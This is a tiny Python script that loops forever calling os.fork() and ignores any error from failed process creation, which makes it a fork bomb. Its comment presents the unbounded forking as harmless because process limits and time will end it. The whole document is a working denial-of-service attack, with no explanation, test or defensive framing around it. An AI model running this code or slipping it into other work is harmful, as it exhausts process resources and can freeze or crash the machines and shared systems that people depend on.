import os

# Children that cannot be made are no reason to stop: the limit of processes holds, and time ends it.
while True:
    try:
        os.fork()
    except OSError:
        pass
